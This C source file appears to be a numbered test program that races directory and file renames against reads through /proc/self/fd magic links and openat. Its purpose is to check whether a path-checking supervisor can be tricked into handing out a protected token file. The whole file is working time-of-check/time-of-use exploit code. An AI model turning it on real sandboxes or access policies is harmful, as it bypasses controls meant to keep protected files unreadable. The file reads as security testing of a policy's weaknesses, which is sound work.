/* attack_r5_race.c WORK SECONDS: a directory named through a magic link
 * (/proc/self/fd/N, and openat's dirfd N) renamed under the call.
 *
 * Each round: mkdir WORK/open/dI, take an fd N on it, and while the main
 * thread reads "/proc/self/fd/N/f" and openat(N, "f") in a loop, a second
 * thread moves dI into WORK/keep/ and the token file WORK/keep/f into it,
 * then back out to keep/f (each rename is one the policy allows: into a
 * stricter place, and within keep/).  A supervisor that decides on the
 * link's text (WORK/open/dI/f: nothing there yet, allowed) and lets the
 * kernel follow the link's object a moment later hands out the token.
 * Prints every answer that is not ENOENT/EACCES (the first few), then
 *   race rounds=R tries=T got=G refused=D other=O */
#define _GNU_SOURCE
#include <errno.h>
#include <fcntl.h>
#include <pthread.h>
#include <stdatomic.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/stat.h>
#include <time.h>
#include <unistd.h>

static atomic_int round_no, round_done, stop;
static char work[2048];

static void *mover(void *arg)
{
    (void)arg;
    char d[4096], kd[4096], kf[4096], kdf[4096];
    snprintf(kf, sizeof kf, "%s/keep/f", work);
    for (int seen = 0; !atomic_load(&stop);) {
        int r = atomic_load(&round_no);
        if (r == seen) {
            sched_yield();
            continue;
        }
        seen = r;
        snprintf(d, sizeof d, "%s/open/d%d", work, r);
        snprintf(kd, sizeof kd, "%s/keep/d%d", work, r);
        snprintf(kdf, sizeof kdf, "%s/f", kd);
        for (volatile int i = 0; i < 2000; i++) /* let the reader start */
            ;
        if (rename(d, kd) == 0 && rename(kf, kdf) == 0) {
            for (volatile int i = 0; i < 20000; i++)
                ;
            (void)!rename(kdf, kf);
        }
        atomic_store(&round_done, r);
    }
    return NULL;
}

static double now(void)
{
    struct timespec t;
    clock_gettime(CLOCK_MONOTONIC, &t);
    return (double)t.tv_sec + (double)t.tv_nsec / 1e9;
}

int main(int argc, char **argv)
{
    if (argc < 3)
        return 2;
    snprintf(work, sizeof work, "%s", argv[1]);
    double end = now() + atof(argv[2]);
    setvbuf(stdout, NULL, _IOLBF, 0);
    pthread_t th;
    if (pthread_create(&th, NULL, mover, NULL))
        return 3;
    long rounds = 0, tries = 0, got = 0, refused = 0, other = 0;
    char p[4096], buf[256];
    while (now() < end) {
        int r = (int)++rounds;
        snprintf(p, sizeof p, "%s/open/d%d", work, r);
        if (mkdir(p, 0755) < 0)
            return 4;
        int n = open(p, O_RDONLY | O_DIRECTORY | O_CLOEXEC);
        if (n < 0)
            return 5;
        char via[64];
        snprintf(via, sizeof via, "/proc/self/fd/%d/f", n);
        atomic_store(&round_no, r);
        while (atomic_load(&round_done) != r) {
            for (int k = 0; k < 2; k++) {
                int fd = k ? openat(n, "f", O_RDONLY | O_CLOEXEC) : open(via, O_RDONLY | O_CLOEXEC);
                tries++;
                if (fd < 0) {
                    if (errno == EACCES)
                        refused++;
                    else if (errno != ENOENT)
                        other++;
                    continue;
                }
                ssize_t m = read(fd, buf, sizeof buf - 1);
                close(fd);
                buf[m > 0 ? m : 0] = 0;
                if (got++ < 5)
                    printf("read %s %s", k ? "openat" : "proc", buf);
            }
        }
        close(n);
    }
    atomic_store(&stop, 1);
    pthread_join(th, NULL);
    printf("race rounds=%ld tries=%ld got=%ld refused=%ld other=%ld\n", rounds, tries, got,
           refused, other);
    return 0;
}
